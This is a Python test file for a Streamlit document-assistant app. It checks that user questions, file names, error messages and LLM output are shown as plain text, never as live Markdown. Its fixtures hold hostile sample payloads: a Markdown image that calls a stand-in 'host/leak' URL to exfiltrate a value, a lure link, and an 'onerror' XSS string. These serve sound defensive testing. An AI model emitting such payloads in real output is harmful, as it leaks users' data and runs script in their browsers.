"""Issue 19 items 9–10: document text, user text and the model's unverified text never reach Markdown live.

A line like ``![x](http://host/leak?q=…)`` rendered as Markdown makes the browser fetch that URL; a link becomes
clickable. Each place that shows such text is checked here with AppTest (or its pure render helper): the text is
shown, and no element renders it as Markdown.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import ui
from assistant.feedback import open_feedback
from assistant.grounded import GroundedResponse
from assistant.types import Answer
from errors import LLMUnavailable
from ingest.service import DocumentLibrary
from settings import load_settings
from ui.schedule import CellCitation, citation_markdown

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
DOCS_PAGE = str(next((ROOT / "pages").glob("1_*.py")))
FEEDBACK_PAGE = str(next((ROOT / "pages").glob("2_*.py")))
REVIEW_PAGE = str(next((ROOT / "pages").glob("4_*.py")))
TIMEOUT = 60
LEAK = "![x](http://host/leak?q=bi-mat)"
LINK = "[bấm vào đây](http://host/lua-dao)"
HOSTILE = f"Kế hoạch {LEAK} và {LINK} **đậm**"


def _live(markdown: str) -> bool:
    """Whether Markdown text holds an active image or link (a ``](`` whose bracket is not escaped)."""
    return re.search(r"(?<!\\)\]\(", markdown) is not None


def _run(at: AppTest) -> AppTest:
    at.run(timeout=TIMEOUT)
    assert not at.exception, [e.value for e in at.exception]
    return at


class StreamingAssistant:
    """LLM mode only: streams ``pieces``, then gives ``answer`` or raises ``error`` (so the streamed text stays)."""

    llm_available = True

    def __init__(self, pieces, answer: Answer | None = None, error: Exception | None = None) -> None:
        self.pieces, self.answer, self.error = list(pieces), answer, error

    def stream(self, question, *, history=(), filters=None, mode="grounded"):
        def pieces():
            yield from self.pieces
            if self.error is not None:
                raise self.error
            return self.answer

        return GroundedResponse(pieces())


@pytest.fixture
def empty_library(tmp_path, monkeypatch):
    from index.store import IndexStore

    (tmp_path / "corpus").mkdir()
    settings = load_settings({}, embedding_model="hashing:64", data_dir=tmp_path / "data",
                             corpus_dir=tmp_path / "corpus")
    library = DocumentLibrary(settings, IndexStore(settings))
    monkeypatch.setattr(ui, "get_library", lambda: library)
    return library


def _llm_app(assistant, monkeypatch) -> AppTest:
    monkeypatch.setattr(ui, "get_assistant", lambda: assistant)
    at = _run(AppTest.from_file(APP, default_timeout=TIMEOUT))
    at.sidebar.radio(key="mode").set_value("llm")
    return _run(at)


def test_the_models_text_streams_as_plain_text_never_as_markdown(empty_library, monkeypatch):
    # the stream is cut by an error, so what was streamed stays on the page to be inspected
    pieces = ["Theo kế hoạch ", LEAK[:5], LEAK[5:], " và ", LINK, " <img src=x onerror=alert(1)> [1]."]
    at = _llm_app(StreamingAssistant(pieces, error=LLMUnavailable("Máy chủ LLM ngắt giữa chừng.")), monkeypatch)
    at.chat_input(key="chat_input").set_value("Kế hoạch nói gì?")
    _run(at)
    assert [t.value for t in at.text] == ["".join(pieces)]  # shown, whole and literal
    assert not any(_live(m.value) or "<img" in m.value for m in at.markdown)
    assert [e.value for e in at.error] == ["Máy chủ LLM ngắt giữa chừng."]


def test_the_verified_answer_and_its_notice_render_escaped(empty_library, monkeypatch):
    answer = Answer("Kế hoạch nói gì?", f"Theo kế hoạch {LEAK}.", mode="llm", notice=f"Chi tiết: {LINK}")
    at = _llm_app(StreamingAssistant(["Theo ", LEAK], answer=answer), monkeypatch)
    at.chat_input(key="chat_input").set_value("Kế hoạch nói gì?")
    _run(at)
    assert not at.text  # the raw stream is gone: the verified answer replaced it
    assert "bấm vào đây" in at.info[0].value and not _live(at.info[0].value)
    shown = [m.value for m in at.markdown if "Theo kế hoạch" in m.value]
    assert shown and not any(_live(m) for m in shown)


def test_a_conversation_titled_by_a_hostile_question_is_a_plain_button(empty_library, monkeypatch):
    answer = Answer(HOSTILE, "Không có.", mode="llm")
    at = _llm_app(StreamingAssistant(["Không có."], answer=answer), monkeypatch)
    at.chat_input(key="chat_input").set_value(HOSTILE)
    _run(at)
    cid = at.session_state["conv_id"]
    label = at.sidebar.button(key=f"conv_{cid}").label
    assert "bấm vào đây" in label and not _live(label) and "**" not in label.replace("\\*", "")


def test_feedback_page_expander_label_escapes_the_users_question():
    open_feedback(load_settings()).record(HOSTILE, "Trả lời.", [], -1, comment=LINK)
    page = _run(AppTest.from_file(FEEDBACK_PAGE, default_timeout=TIMEOUT))
    (expander,) = page.expander
    assert "bấm vào đây" in expander.label and not _live(expander.label)
    assert not any(_live(m.value) for m in page.markdown)


def test_review_page_expander_label_escapes_the_users_question():
    citation = {"n": 1, "doc_id": "kh-36", "label": "KH 36", "start": 0, "end": 8, "quote": "Sở Y tế"}
    open_feedback(load_settings()).review("k1", HOSTILE, "Trả lời [1].", citation, "sai", LINK)
    page = _run(AppTest.from_file(REVIEW_PAGE, default_timeout=TIMEOUT))
    (expander,) = page.expander
    assert "bấm vào đây" in expander.label and not _live(expander.label)
    assert not any(_live(m.value) for m in page.markdown)


def test_schedule_citation_line_shows_a_plan_line_as_text():
    cite = CellCitation(1, "kh-36", "KH **36**", "Sở Y tế", "quý III", 0, 40, f"Sở Y tế kiểm tra {LEAK} {LINK}")
    line = citation_markdown(cite)
    assert line.startswith("**KH \\*\\*36\\*\\***") and "http" in line and not _live(line)


def test_documents_page_shows_a_hostile_file_name_as_text(tmp_path, monkeypatch):
    from index.store import IndexStore
    from ingest.pipeline import ingest_paths

    corpus = tmp_path / "kho"
    corpus.mkdir()
    name = "[bấm](http:host) ![x](http:host).txt"
    (corpus / name).write_text("KẾ HOẠCH\nKiểm tra cải cách hành chính năm 2023 tại Sở Y tế.\n", encoding="utf-8")
    settings = load_settings({}, embedding_model="hashing:64", data_dir=tmp_path / "data", corpus_dir=corpus)
    store = IndexStore(settings)
    assert not ingest_paths([corpus], settings, store).refused
    library = DocumentLibrary(settings, store)
    monkeypatch.setattr(ui, "get_library", lambda: library)
    page = _run(AppTest.from_file(DOCS_PAGE, default_timeout=TIMEOUT))
    captions = [c.value for c in page.caption if c.value.startswith("Tệp:")]
    assert captions and "bấm" in captions[0] and not _live(captions[0])


def test_a_message_that_stops_a_page_is_shown_as_text():
    def page():
        import ui
        from errors import IngestBusy

        def fail():
            raise IngestBusy("Tệp ![x](http://host/leak) [bấm](http://host/a) đang được nạp.")

        ui.or_stop("Không mở được", fail)

    at = _run(AppTest.from_function(page, default_timeout=TIMEOUT))
    (error,) = at.error
    assert "đang được nạp." in error.value and not _live(error.value)
